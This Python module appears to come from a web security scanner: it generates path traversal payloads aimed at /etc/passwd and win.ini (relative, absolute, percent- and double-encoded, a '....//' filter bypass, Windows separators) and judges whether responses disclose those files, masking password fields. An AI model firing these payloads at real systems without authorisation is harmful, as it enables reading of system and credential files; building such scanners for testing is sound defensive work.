"""Pure judges of the traversal family: the paths it sends, and file contents in their format.

Payloads name `/etc/passwd` and `win.ini`, relative (`../` eight deep, enough for most web
roots), absolute, after the original value's own folder (`reports/../../etc/passwd`, for a
check that only looks at how the path starts), percent-encoded (`..%2f`, `%2e%2e%2f`),
double-encoded (`%252e%252e%252f`), with a filter bypass (`....//`, which becomes `../` when
`../` is stripped once), and with Windows separators (`..\\`, `c:\\`). Encoded payloads are
`wire` values: they go on the wire as written. Each payload also names the same file without
climbing (`Payload.stays`), the control that tells a read outside the folder from a file the
folder holds itself.

A file counts only in its own format, never by a keyword:

- `/etc/passwd`: at least `PASSWD_LINES` lines of `name:password:uid:gid:gecos:/home:/shell`,
  one of them root's with uid and gid 0.
- `win.ini`: at least `WININI_SECTIONS` of its own section headers (`[fonts]`,
  `[extensions]`, `[mci extensions]`, `[files]`, `[Mail]`, ...).

Lines that any baseline answer already holds do not count (a page that shows a sample passwd
file on every answer proves nothing), and the body is read as sent, as its JSON strings (and
their HTML without tags, for an API that sends a rendered preview), as the text that base64
JSON strings decode to (a file API that sends contents base64-encoded), and as HTML without
tags (`signatures.text_views`).
"""

from __future__ import annotations

import base64
import binascii
import posixpath
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from itertools import islice
from typing import Any, Literal

from probe.exchange import ResponseRecord
from probe.probes.signatures import JSON_NODES, SCAN_HEAD, text_views, walk_json

FileKind = Literal["passwd", "win.ini"]

#: Directories climbed by relative payloads.
DEPTH = 8
#: passwd lines needed, root's among them.
PASSWD_LINES = 3
#: win.ini section headers needed.
WININI_SECTIONS = 3
_EXCERPT_LINES = 8
_PASSWD = re.compile(
    r"^[ \t]*([a-z_][a-z0-9_.-]{0,31}\$?):([^:\s]*):(\d{1,10}):(\d{1,10}):([^:\n]*):"
    r"(/[^:\n]*):(/[^:\s]*)?[ \t]*\r?$",
    re.MULTILINE,
)
_SECTION = re.compile(r"^[ \t]*\[([^\]\r\n]{1,40})\][ \t]*\r?$", re.MULTILINE)
_WININI_SECTIONS = frozenset(
    {
        "fonts",
        "extensions",
        "mci extensions",
        "files",
        "mail",
        "windows",
        "desktop",
        "intl",
        "ports",
        "devices",
        "printerports",
        "compatibility",
        "embedding",
        "sound",
    }
)
# Password fields that hold no secret: shown as they are in an excerpt.
_WIN_INI = "windows\\win.ini"
_NO_SECRET = frozenset({"", "x", "*", "!", "!!", "!*"})
# Strict base64 (line breaks allowed, as in e-mail and GitHub's contents API); shorter strings
# cannot hold three passwd lines.
_BASE64 = re.compile(r"(?:[A-Za-z0-9+/]{4})+(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?")
_BASE64_MIN = 64
_LINE_BREAKS = re.compile(r"\r?\n")


@dataclass(frozen=True)
class Payload:
    """One traversal path.

    Attributes:
        label: How the check's detail names it ("relative `../`").
        value: The path as sent.
        wire: Sent exactly as written (already percent-encoded).
        kind: The file it names.
        stays: The same file named without climbing, in the same encoding (`etc/passwd`,
            and for a path after the original folder also `reports/etc/passwd`): where the
            climb lands when `..` stops at the folder the server reads from.
    """

    label: str
    value: str
    wire: bool
    kind: FileKind
    stays: tuple[str, ...]

    def control(self, name: str) -> str:
        """The same path naming a file `name` that does not exist, in the same folder."""
        target = "passwd" if self.kind == "passwd" else "win.ini"
        replacement = name if self.kind == "passwd" else f"{name}.ini"
        return self.value[: -len(target)] + replacement

    @property
    def bare(self) -> str:
        """The file's name alone, with no path: the keyword a search page might match."""
        return "passwd" if self.kind == "passwd" else "win.ini"


def payloads(depth: int = DEPTH, original: str = "") -> tuple[Payload, ...]:
    """Every traversal path, in the order they are tried; one more after the folder of
    `original` (the scenario's value) when it names one."""
    return (
        _climb("relative `../`", "../", "/", depth),
        Payload("absolute `/etc/passwd`", "/etc/passwd", False, "passwd", ("etc/passwd",)),
        *_after_folder(original_folder(original), depth),
        _climb("encoded `..%2f`", "..%2f", "%2f", depth),
        _climb("encoded `%2e%2e%2f`", "%2e%2e%2f", "%2f", depth),
        _climb("double-encoded `%252e%252e%252f`", "%252e%252e%252f", "%252f", depth),
        _climb("filter bypass `....//`", "....//", "/", depth),
        Payload(
            "relative `..\\` to win.ini", "..\\" * depth + _WIN_INI, False, "win.ini", (_WIN_INI,)
        ),
        Payload(
            "absolute `c:\\windows\\win.ini`", "c:\\" + _WIN_INI, False, "win.ini", (_WIN_INI,)
        ),
    )


def _climb(label: str, step: str, separator: str, depth: int) -> Payload:
    """`step` `depth` times, then etc/passwd with `separator`; percent-encoded ones are wire."""
    target = f"etc{separator}passwd"
    return Payload(label, step * depth + target, "%" in step, "passwd", (target,))


def _after_folder(folder: str, depth: int) -> tuple[Payload, ...]:
    """The climb after the original value's folder, which a check on the path's start lets
    through; none without a folder."""
    if not folder:
        return ()
    value = f"{folder}/{'../' * depth}etc/passwd"
    label = f"relative `../` after the original folder `{folder}/`"
    return (Payload(label, value, False, "passwd", (f"{folder}/etc/passwd", "etc/passwd")),)


def original_folder(original: str) -> str:
    """The folder part of a path-like original value (`reports` of `reports/2024.txt`), or ""
    when it has none worth keeping (no `/`, the root, a URL, a climb of its own)."""
    if "://" in original or original.startswith("//") or ".." in original:
        return ""
    folder = posixpath.dirname(original).rstrip("/")
    return "" if folder in ("", ".") else folder


@dataclass(frozen=True)
class FileContent:
    """A file found in an answer, in its own format.

    Attributes:
        kind: Which file.
        lines: Its structured lines that no baseline holds (passwd lines, win.ini headers).
    """

    kind: FileKind
    lines: tuple[str, ...]

    def excerpt(self) -> str:
        """The first lines, password fields that could hold a hash masked."""
        shown = [_masked(line) if self.kind == "passwd" else line for line in self.lines]
        return "\n".join(shown[:_EXCERPT_LINES])


def texts(response: ResponseRecord) -> list[str]:
    """A body as sent and as a reader sees it (JSON strings decoded, HTML tags dropped), the
    JSON strings' HTML without its tags, and the text its base64 JSON strings decode to."""
    views = text_views(response.text(), response.content_type)
    found = [views.raw]
    # An API sending a rendered preview (`{"html": "<pre>root:x:0:0:..."}`): the first line is
    # glued to a tag until the tags are dropped. Read first, so a file's lines keep their order.
    if views.is_json and "<" in views.plain:
        found.append(text_views(views.plain, "text/html").plain)
    if views.plain != views.raw:
        found.append(views.plain)
    if views.is_json:
        decoded = "\n".join(base64_texts(views.data))
        if decoded:
            found.append(decoded)
    return found


def base64_texts(data: Any) -> Iterator[str]:
    """The text of each JSON string in `data` that is strict base64 of UTF-8 text (long
    enough to hold a file), within the scan's bounds."""
    total = 0
    for _, value in islice(walk_json(data), JSON_NODES):
        if not isinstance(value, str) or len(value) < _BASE64_MIN:
            continue
        total += len(value)
        if total > SCAN_HEAD:
            return
        compact = _LINE_BREAKS.sub("", value)
        if not _BASE64.fullmatch(compact):
            continue
        try:
            yield base64.b64decode(compact, validate=True).decode("utf-8")
        # Binary content (an image, a zip) is no text file.
        except (binascii.Error, UnicodeDecodeError):
            continue


def passwd_lines(text: str) -> list[str]:
    """The lines of `text` in passwd format, in order, each once."""
    return list(dict.fromkeys(m.group(0).strip() for m in _PASSWD.finditer(text)))


def winini_sections(text: str) -> list[str]:
    """win.ini's own section headers in `text`, in order, each once (`[fonts]`)."""
    found = (m.group(0).strip() for m in _SECTION.finditer(text))
    return list(dict.fromkeys(h for h in found if h[1:-1].strip().lower() in _WININI_SECTIONS))


def structured(kind: FileKind, text: str) -> list[str]:
    """The structured lines of `kind` in `text`."""
    return passwd_lines(text) if kind == "passwd" else winini_sections(text)


def file_content(
    kind: FileKind, answer: ResponseRecord, baselines: Iterable[ResponseRecord]
) -> FileContent | None:
    """The file in `answer` when its lines absent from every baseline still make the file."""
    known = {line for b in baselines for text in texts(b) for line in structured(kind, text)}
    lines = [line for text in texts(answer) for line in structured(kind, text)]
    new = tuple(dict.fromkeys(line for line in lines if line not in known))
    return FileContent(kind, new) if _is_file(kind, new) else None


def _is_file(kind: FileKind, lines: tuple[str, ...]) -> bool:
    if kind == "win.ini":
        return len(lines) >= WININI_SECTIONS
    has_root = any(re.match(r"root:[^:]*:0:0:", line) for line in lines)
    return has_root and len(lines) >= PASSWD_LINES


def _masked(line: str) -> str:
    name, _, rest = line.partition(":")
    password, _, rest = rest.partition(":")
    return f"{name}:{password if password in _NO_SECRET else '***'}:{rest}"
